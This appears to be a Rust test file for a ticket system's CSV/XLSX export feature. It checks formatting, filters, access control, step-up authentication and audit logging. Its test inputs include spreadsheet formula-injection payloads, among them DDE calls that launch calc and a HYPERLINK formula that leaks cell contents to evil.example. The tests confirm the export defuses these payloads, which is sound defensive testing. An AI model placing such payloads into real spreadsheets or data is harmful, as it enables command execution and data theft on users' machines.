//! The list of tickets as a file: who may, what is in it, and that nothing in it is a formula.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use gongdan_server::auth::sessions::RECENT_SECONDS;
use reqwest::{Response, StatusCode};
use serde_json::{Value, json};

use crate::desk::{AUDITOR, DISPATCHER, Desk, SUPERVISOR};
use crate::harness::{ADMINISTRATOR, TestServer, assert_problem};

/// Texts that a spreadsheet program would run, or that break out of their cell.
const FORMULAS: [&str; 14] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点这里\")",
    "\"=1+1\"",
    "\",\"=1+1",
    "a;=1+1",
    "a;\"=1+1\"",
    "\u{ff1d}1+1",
    "\u{feff}=1+1",
    "\u{202e}=1+1",
    "_x003D_1+1",
];

async fn open(desk: &Desk<'_>, text: &str) {
    let field = |field: &str, value: &str| json!({ "field": field, "value": value });
    let body = json!({ "commands": [
        { "open": { "problem": text, "fields": [
            field("ticket_type", "repair"), field("region", "east"), field("product_line", "aircon"),
            field("model", text),
        ] } },
        { "record_customer": { "fields": [field("customer_name", text)] } },
    ] });
    let opened = desk.post("/v1/tickets", body).await;
    assert_eq!(opened.status(), StatusCode::CREATED, "{text}");
}

fn head<'a>(response: &'a Response, name: &str) -> &'a str {
    response.headers()[name].to_str().unwrap()
}

async fn file(desk: &Desk<'_>, query: &str) -> Vec<u8> {
    let answer = desk.fetch(&format!("/v1/tickets/export?{query}")).await;
    assert_eq!(answer.status(), StatusCode::OK);
    answer.bytes().await.unwrap().to_vec()
}

/// Records of a CSV file after its mark, read by the format's own rules.
fn records(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text);
    let rows = reader.records().map(|row| row.unwrap());
    rows.map(|row| row.iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn a_list_is_taken_away_as_csv_and_as_xlsx_in_either_language() {
    let server = TestServer::start().await;
    let (clerk, desk) = (server.desk(DISPATCHER), server.desk(SUPERVISOR));
    for text in FORMULAS {
        open(&clerk, text).await;
    }
    let answer = desk.fetch("/v1/tickets/export?format=csv").await;
    assert_eq!(head(&answer, "content-type"), "text/csv; charset=utf-8");
    assert_eq!(head(&answer, "x-content-type-options"), "nosniff");
    let named = head(&answer, "content-disposition").to_owned();
    assert!(
        named.starts_with("attachment; filename=\"tickets-2026")
            && named.contains("; filename*=UTF-8''%E5%B7%A5%E5%8D%95-2026"),
        "{named}"
    );
    let bytes = answer.bytes().await.unwrap();
    let rows = records(&bytes);
    assert_eq!(rows.len(), FORMULAS.len() + 1);
    assert_eq!(
        rows[0][..7],
        ["编号", "状态", "等级", "区域", "产品线", "型号", "问题"]
    );
    assert_eq!(rows[1][1], "接收");
    assert_eq!(rows[1][3..5], ["东部大区", "家用空调"]);
    assert_eq!(
        rows[1][11], "2026-11-18 19:06",
        "in the organisation's zone"
    );
    // The newest first. An apostrophe is all that is added.
    for (row, text) in rows[1..].iter().zip(FORMULAS.iter().rev()) {
        for cell in &row[5..8] {
            assert_eq!(cell.replace('\'', ""), text.replace('\'', ""), "{text:?}");
        }
    }
    let begins = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    assert!(!rows.iter().flatten().any(|cell| begins(cell)));

    let bytes = file(&desk, "format=xlsx&language=en").await;
    let mut workbook = Xlsx::new(Cursor::new(bytes)).unwrap();
    let sheet = workbook.worksheet_range("Tickets").unwrap();
    let formulas = workbook.worksheet_formula("Tickets").unwrap();
    assert!(formulas.used_cells().next().is_none(), "{formulas:?}");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(rows[0][6], Data::String("Problem".to_owned()));
    assert_eq!(rows.len(), FORMULAS.len() + 1);
    for (row, text) in rows[1..].iter().zip(FORMULAS.iter().rev()) {
        assert_eq!(
            row[5..8],
            [text, text, text].map(|text| Data::String((*text).to_owned()))
        );
        assert_eq!(row[10], Data::Float(0.0), "counted here");
    }
}

#[tokio::test]
async fn pages_are_one_file_and_filters_hold() {
    let server = TestServer::start().await;
    let desk = server.desk(SUPERVISOR);
    for n in 0..203 {
        desk.open(
            if n % 2 == 0 { "east" } else { "north" },
            &format!("空调{n}"),
        )
        .await;
    }
    let rows = records(&file(&desk, "format=csv").await);
    assert_eq!(rows.len(), 204);
    let problems: Vec<&str> = rows[1..].iter().map(|row| row[6].as_str()).collect();
    assert_eq!((problems[0], problems[202]), ("空调202", "空调0"));
    let some = records(&file(&desk, "format=csv&region=north&q=%E7%A9%BA%E8%B0%831").await);
    assert!(some.len() > 20 && some[1..].iter().all(|row| row[3] == "北部大区"));
    let bytes = file(&desk, "format=xlsx").await;
    let mut workbook = Xlsx::new(Cursor::new(bytes)).unwrap();
    assert_eq!(workbook.worksheet_range("工单").unwrap().height(), 204);
}

#[tokio::test]
async fn a_list_is_taken_away_by_whom_it_is_given_to_after_a_recent_proof_and_is_told_of() {
    let server = TestServer::start().await;
    let export = "/v1/tickets/export?format=csv";
    assert_problem(
        server.desk(DISPATCHER).fetch(export).await,
        403,
        "forbidden",
    )
    .await;
    let nobody = server.client.get(server.url(export)).send().await.unwrap();
    assert_problem(nobody, 401, "unauthenticated").await;
    let desk = server.desk(AUDITOR);
    for bad in [
        "",
        "?format=pdf",
        "?format=csv&status=party",
        "?format=csv&language=fr",
    ] {
        let answer = desk.fetch(&format!("/v1/tickets/export{bad}")).await;
        assert_problem(answer, 400, "malformed_request").await;
    }
    assert_eq!(desk.fetch(export).await.status(), StatusCode::OK);
    server.clock.advance(RECENT_SECONDS + 1);
    assert_problem(desk.fetch(export).await, 403, "step_up_required").await;
    let told = server.desk(ADMINISTRATOR).get("/v1/audit").await;
    let entries = told["entries"].as_array().unwrap();
    let of = |entry: &&Value| entry["action"] == "tickets_exported";
    let told: Vec<(&Value, &Value)> = entries
        .iter()
        .filter(of)
        .map(|entry| (&entry["actor"], &entry["detail"]["status"]))
        .collect();
    let auditor = json!(format!("person:{AUDITOR}"));
    assert!(told.contains(&(&auditor, &Value::Null)), "{told:?}");
    assert!(told.contains(&(&auditor, &json!(403))), "{told:?}");
}
